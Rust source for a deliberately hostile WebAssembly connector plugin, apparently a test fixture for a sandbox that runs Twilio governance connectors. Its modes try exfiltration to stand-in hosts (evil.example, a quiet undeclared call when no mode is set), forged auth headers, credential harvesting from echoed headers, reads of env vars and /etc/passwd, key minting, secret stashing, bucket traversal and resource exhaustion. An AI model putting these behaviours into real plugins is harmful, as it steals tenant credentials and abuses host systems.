//! The misbehaviours, one per `mode`.

wit_bindgen::generate!({
    path: "../../wit",
    world: "connector-plugin",
    with: {
        "wasi:http/outgoing-handler@0.2.12": wasip2::http::outgoing_handler,
        "wasi:http/types@0.2.12": wasip2::http::types,
        "wasi:io/poll@0.2.12": wasip2::io::poll,
        "wasi:io/error@0.2.12": wasip2::io::error,
        "wasi:io/streams@0.2.12": wasip2::io::streams,
        "wasi:clocks/monotonic-clock@0.2.12": wasip2::clocks::monotonic_clock,
        "wasi:clocks/wall-clock@0.2.12": wasip2::clocks::wall_clock,
        "wasi:random/random@0.2.12": wasip2::random::random,
        "wasi:keyvalue/store@0.2.0-draft": generate,
    },
});

use wasi::keyvalue::store as kv;

/// The option `value`, or empty.
pub(crate) fn option<'a>(cfg: &'a Config, key: &str) -> &'a str {
    cfg.options
        .iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
        .unwrap_or_default()
}

use crate::http::{Payload, Reply, exchange, get, get_full, send};
use exports::governance::connector::connector::Guest;
use governance::connector::types::*;
use wasip2::http::types::{Fields, Method, Scheme};

/// Each header as `name=value`, and what base64 in it decodes to.
fn headers_seen(reply: &Reply) -> String {
    reply
        .headers
        .iter()
        .map(|(k, v)| {
            let decoded = v
                .split_whitespace()
                .filter_map(crate::http::base64_decode)
                .map(|b| String::from_utf8_lossy(&b).into_owned())
                .collect::<Vec<_>>();
            format!("{k}={v} decoded={decoded:?}")
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn report(text: String) -> AccountPage {
    AccountPage {
        accounts: vec![Account {
            id: "hostile".into(),
            username: None,
            email: None,
            display_name: Some(text),
            status: AccountStatus::Active,
            last_activity: None,
            entitlements: vec![],
            attributes: vec![],
            warnings: vec![],
        }],
        next_cursor: None,
    }
}

#[inline(never)]
fn recurse(n: u64) -> u64 {
    let pad = std::hint::black_box([n; 64]);
    if n == u64::MAX {
        0
    } else {
        recurse(n + 1).wrapping_add(pad[3])
    }
}

struct Hostile;

impl Guest for Hostile {
    fn metadata() -> ConnectorInfo {
        ConnectorInfo {
            name: "hostile".into(),
            version: "0.0.0".into(),
            apps: crate::routes::apps(),
        }
    }

    fn check(_cfg: Config) -> Result<String, ConnectorError> {
        Ok("hostile\u{1b}[31m\r\u{9b}2J".into())
    }

    fn list_accounts(cfg: Config, _cursor: Option<String>) -> Result<AccountPage, ConnectorError> {
        let mode = cfg
            .options
            .iter()
            .find(|(k, _)| k == "mode")
            .map(|(_, v)| v.as_str())
            .unwrap_or("unset");
        let accounts = "/2010-04-01/Accounts.json";
        let text = match mode {
            "ok" => "ok".to_string(),
            // State kept in the instance: a fresh instance per call always counts 1.
            "remember" => {
                static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
                let n = CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst) + 1;
                format!("calls seen: {n}")
            }
            // Without a mode (a conformance run), it quietly tries a host it did not declare.
            "unset" => {
                let _ = get(Scheme::Https, "steal.twilio.com", "/collect", &[]);
                "ok".to_string()
            }
            "foreign-host" => format!("{:?}", get(Scheme::Https, "evil.example", "/steal", &[])),
            "plain-http" => format!("{:?}", get(Scheme::Http, "api.twilio.com", accounts, &[])),
            "other-port" => format!(
                "{:?}",
                get(Scheme::Https, "api.twilio.com:8443", accounts, &[])
            ),
            // Follow a redirect by hand: the host does not follow redirects, so the guest must,
            // and the follow-up is an ordinary request that meets the allowlist. The host shows
            // the guest no `Location`; a plugin told where the upstream points (`follow`) goes
            // there anyway.
            "redirect" => match get_full(Scheme::Https, "api.twilio.com", accounts, &[]) {
                Ok((status, _, location)) => {
                    let to = location
                        .clone()
                        .unwrap_or_else(|| option(&cfg, "follow").to_string());
                    let rest = to.trim_start_matches("https://");
                    let (auth, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
                    format!(
                        "first {status}; location seen: {location:?}; follow: {:?}",
                        get(Scheme::Https, auth, path, &[])
                    )
                }
                Err(e) => format!("no answer: {e}"),
            },
            "own-auth" => format!(
                "{:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    accounts,
                    &[("authorization", "Basic QUM6c3RvbGVu")]
                )
            ),
            // Set a header the host keeps for itself (`header`, `value`): a forged `Host`,
            // credentials of its own, a proxy credential, a session cookie.
            "forge-header" => format!(
                "{:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    accounts,
                    &[(option(&cfg, "header"), option(&cfg, "value"))]
                )
            ),
            // Read every response header, looking for the tenant's credential an upstream
            // echoes: as it is, and decoded where it looks like `Basic base64(user:secret)`.
            "header-echo" => match exchange(
                Method::Get,
                Scheme::Https,
                "api.twilio.com",
                accounts,
                &[],
                Payload::Bytes(b""),
            ) {
                Ok(reply) => headers_seen(&reply),
                Err(e) => e,
            },
            // Everything the Organization API's answers show the guest (headers, decoded where
            // they look like base64, and bodies), and a try at the token URL itself: the
            // bearer token the host minted must be in none of it.
            "org-echo" => {
                let users = format!(
                    "/Organizations/{}/scim/Users",
                    option(&cfg, "organization_sid")
                );
                let seen = match exchange(
                    Method::Get,
                    Scheme::Https,
                    crate::routes::PREVIEW_IAM,
                    &users,
                    &[],
                    Payload::Bytes(b""),
                ) {
                    Ok(reply) => format!("{}\n{}", headers_seen(&reply), reply.body),
                    Err(e) => e,
                };
                let mint = get(Scheme::Https, "oauth.twilio.com", "/v2/token", &[]);
                format!("{seen}\nmint: {mint:?}")
            }
            // Twenty reads where the bearer token is refused: the host may mint one more
            // token for the call, never one per refusal.
            "org-401s" => {
                let users = format!(
                    "/Organizations/{}/scim/Users",
                    option(&cfg, "organization_sid")
                );
                let statuses: Vec<String> = (0..20)
                    .map(
                        |_| match get(Scheme::Https, crate::routes::PREVIEW_IAM, &users, &[]) {
                            Ok((status, _)) => status.to_string(),
                            Err(e) => e,
                        },
                    )
                    .collect();
                statuses.join(",")
            }
            "echo" => match get(Scheme::Https, "api.twilio.com", accounts, &[]) {
                Ok((_, body)) => body,
                Err(e) => e,
            },
            // Read `path` asking the host for only `fields` of its list (`connector-answer-fields`,
            // as given, however malformed); without `fields`, the whole page.
            "narrow" => {
                let fields = option(&cfg, "fields");
                let headers: &[(&str, &str)] = if fields.is_empty() {
                    &[]
                } else {
                    &[("connector-answer-fields", fields)]
                };
                match get(
                    Scheme::Https,
                    "api.twilio.com",
                    option(&cfg, "path"),
                    headers,
                ) {
                    Ok((status, body)) => format!("{status}\n{body}"),
                    Err(e) => format!("error: {e}"),
                }
            }
            "env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                let root = std::fs::read_dir("/")
                    .map(|d| d.count())
                    .map_err(|e| e.to_string());
                let passwd = std::fs::read_to_string("/etc/passwd")
                    .map(|s| s.len())
                    .map_err(|e| e.to_string());
                let args: Vec<String> = std::env::args().collect();
                format!("vars={vars:?} root={root:?} passwd={passwd:?} args={args:?}")
            }
            "loop" => {
                let mut x = 0u64;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hog: Vec<Vec<u8>> = Vec::new();
                loop {
                    hog.push(vec![1u8; 8 << 20]);
                    std::hint::black_box(&hog);
                }
            }
            "recurse" => format!("{}", recurse(0)),
            "huge" => "x".repeat(48 << 20),
            "flood" => {
                let mut last = String::new();
                for _ in 0..100_000 {
                    match get(Scheme::Https, "api.twilio.com", accounts, &[]) {
                        Ok(_) => {}
                        Err(e) => {
                            last = e;
                            break;
                        }
                    }
                }
                last
            }
            // Start 40 reads at once (option `burst` to change), far beyond any account's limit,
            // and say what came back: `200×a 429×b …`.
            "burst" => {
                let n = option(&cfg, "burst").parse().unwrap_or(40);
                let mut seen = std::collections::BTreeMap::<String, usize>::new();
                for r in crate::http::burst("api.twilio.com", accounts, n) {
                    let key = match r {
                        Ok(status) => status.to_string(),
                        Err(e) => e,
                    };
                    *seen.entry(key).or_default() += 1;
                }
                seen.iter()
                    .map(|(k, n)| format!("{k}×{n}"))
                    .collect::<Vec<_>>()
                    .join(" ")
            }
            // Keep asking for what it may not have: a long path on a forbidden route.
            "deny-flood" => {
                let path = format!("/2010-04-01/Recordings/{}.json", "x".repeat(4000));
                let mut refused = 0u32;
                for _ in 0..5_000 {
                    if get(Scheme::Https, "api.twilio.com", &path, &[]).is_err() {
                        refused += 1;
                    }
                }
                format!("{refused} refused")
            }
            "trap" => panic!("hostile plugin panicked on purpose"),
            // Make the host hold memory: thousands of header maps of 120 KiB each.
            "fields" => {
                let value = "v".repeat(120 * 1024);
                let mut kept = Vec::new();
                let mut stopped = String::from("never");
                for i in 0..20_000 {
                    let f = Fields::new();
                    if let Err(e) = f.append("x-pad", value.as_bytes()) {
                        stopped = format!("append {i}: {e:?}");
                        kept.push(f);
                        break;
                    }
                    kept.push(f);
                }
                format!("kept {} fields; stopped: {stopped}", kept.len())
            }
            // Keep the host busy inside its own functions: endless draws just under the cap.
            "random-small" => {
                let mut total = 0usize;
                loop {
                    total += wasip2::random::random::get_random_bytes(1 << 20).len();
                    std::hint::black_box(total);
                }
            }
            // Hold as many resources as the host will make: small header maps, never dropped.
            "many-fields" => {
                let mut kept = Vec::new();
                for _ in 0..200_000 {
                    kept.push(Fields::new());
                }
                format!("kept {}", kept.len())
            }
            // Make the host generate randomness: one 64 MiB draw, then many.
            "random" => {
                let mut total = 0usize;
                for _ in 0..380 {
                    total += wasip2::random::random::get_random_bytes(64 << 20).len();
                }
                format!("drew {total} bytes")
            }
            // A route it never declared, on a host it did.
            "undeclared" => format!(
                "{:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    "/2010-04-01/Accounts/AC0000000000000000000000000000b001/Usage/Records.json",
                    &[]
                )
            ),
            // Mint a lasting credential during a read.
            "mint-key" => {
                let keys = format!("/2010-04-01/Accounts/{}/Keys.json", cfg.account_id);
                let post = send(
                    Method::Post,
                    Scheme::Https,
                    "api.twilio.com",
                    &keys,
                    &[("content-type", "application/x-www-form-urlencoded")],
                    b"FriendlyName=x",
                );
                let get = send(
                    Method::Get,
                    Scheme::Https,
                    "api.twilio.com",
                    &keys,
                    &[],
                    b"",
                );
                format!("post={post:?} get={get:?}")
            }
            "secondary-token" => format!(
                "{:?}",
                send(
                    Method::Post,
                    Scheme::Https,
                    "accounts.twilio.com",
                    "/v1/AuthTokens/Secondary",
                    &[],
                    b""
                )
            ),
            // Another representation of the same resource.
            "xml" => format!(
                "{:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    "/2010-04-01/Accounts.xml",
                    &[]
                )
            ),
            "gzip" => format!(
                "header={:?} plain={:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    accounts,
                    &[("accept-encoding", "gzip")]
                ),
                get(Scheme::Https, "api.twilio.com", accounts, &[])
            ),
            "trace" => format!(
                "{:?}",
                send(
                    Method::Trace,
                    Scheme::Https,
                    "api.twilio.com",
                    accounts,
                    &[],
                    b""
                )
            ),
            "range" => format!(
                "{:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    accounts,
                    &[("range", "bytes=0-10")]
                )
            ),
            // Keep the tenant's credential (told to it by the test) in host-kept state, raw and
            // hidden inside a longer value.
            "state-secret" => {
                let secret = option(&cfg, "value");
                let b =
                    kv::open("tenant").map_err(|e| ConnectorError::Transport(format!("{e:?}")))?;
                let raw = b.set("stolen", secret.as_bytes());
                let hidden = b.set("hidden", format!("prefix-{secret}-suffix").as_bytes());
                let as_key = b.set(secret, b"x");
                format!("raw={raw:?} hidden={hidden:?} key={as_key:?}")
            }
            // Fill host-kept state until the host says no.
            "state-flood" => {
                let b =
                    kv::open("tenant").map_err(|e| ConnectorError::Transport(format!("{e:?}")))?;
                let chunk = vec![b'x'; 1 << 20];
                let mut stored = 0;
                let mut stop = String::from("never");
                for i in 0..10_000 {
                    match b.set(&format!("k{i}"), &chunk) {
                        Ok(()) => stored += 1,
                        Err(e) => {
                            stop = format!("{e:?}");
                            break;
                        }
                    }
                }
                format!("stored {stored} MiB; stopped: {stop}")
            }
            // Write a value to the tenant bucket, then fail or succeed as told.
            "state-write" => {
                let b =
                    kv::open("tenant").map_err(|e| ConnectorError::Transport(format!("{e:?}")))?;
                let r = b.set("k", option(&cfg, "value").as_bytes());
                if option(&cfg, "then") == "fail" {
                    return Err(ConnectorError::Upstream(UpstreamError {
                        status: 500,
                        code: None,
                        message: "failing after a state write, on purpose".into(),
                    }));
                }
                format!("{r:?}")
            }
            // Read every bucket it can name, and some it should not be able to.
            // Keep a value in the listing's bucket and ask for a next page.
            "listing-write" => {
                let b =
                    kv::open("listing").map_err(|e| ConnectorError::Transport(format!("{e:?}")))?;
                format!("{:?}", b.set("k", option(&cfg, "value").as_bytes()))
            }
            "state-read" => {
                let read = |name: &str| match kv::open(name) {
                    Ok(b) => format!(
                        "{:?}",
                        b.get("k")
                            .map(|v| v.map(|v| String::from_utf8_lossy(&v).into_owned()))
                    ),
                    Err(e) => format!("{e:?}"),
                };
                ["tenant", "listing", "", "../other", "tenant/other", "other"]
                    .iter()
                    .map(|n| format!("{n}={}", read(n)))
                    .collect::<Vec<_>>()
                    .join(" ")
            }
            "write-during-read" => {
                let target = format!("/2010-04-01/Accounts/{}.json", cfg.account_id);
                format!(
                    "{:?}",
                    send(
                        Method::Post,
                        Scheme::Https,
                        "api.twilio.com",
                        &target,
                        &[("content-type", "application/x-www-form-urlencoded")],
                        b"Status=closed"
                    )
                )
            }
            other => {
                return Err(ConnectorError::InvalidConfig(format!(
                    "unknown mode {other}"
                )));
            }
        };
        let mut page = report(text);
        if mode == "listing-write" {
            page.next_cursor = Some("next".into());
        }
        Ok(page)
    }

    fn get_account(_cfg: Config, id: String) -> Result<Account, ConnectorError> {
        Err(ConnectorError::NotFound(id))
    }

    fn suspend(cfg: Config, id: String, dry_run: bool) -> Result<ActionResult, ConnectorError> {
        crate::actions::status_change("suspend", &cfg, id, dry_run)
    }

    fn reactivate(cfg: Config, id: String, dry_run: bool) -> Result<ActionResult, ConnectorError> {
        crate::actions::status_change("reactivate", &cfg, id, dry_run)
    }

    fn deprovision(cfg: Config, id: String, dry_run: bool) -> Result<ActionResult, ConnectorError> {
        crate::actions::status_change("deprovision", &cfg, id, dry_run)
    }

    fn provision(
        cfg: Config,
        request: ProvisionRequest,
        dry_run: bool,
    ) -> Result<ActionResult, ConnectorError> {
        crate::actions::provision(&cfg, request, dry_run)
    }

    fn list_entitlements(
        _cfg: Config,
        _cursor: Option<String>,
    ) -> Result<EntitlementPage, ConnectorError> {
        Err(ConnectorError::Unsupported("list-entitlements".into()))
    }

    fn grant(
        cfg: Config,
        id: String,
        entitlement: String,
        dry_run: bool,
    ) -> Result<ActionResult, ConnectorError> {
        crate::actions::entitlement_change(&cfg, true, id, entitlement, dry_run)
    }

    fn revoke(
        cfg: Config,
        id: String,
        entitlement: String,
        dry_run: bool,
    ) -> Result<ActionResult, ConnectorError> {
        crate::actions::entitlement_change(&cfg, false, id, entitlement, dry_run)
    }
}

export!(Hostile);
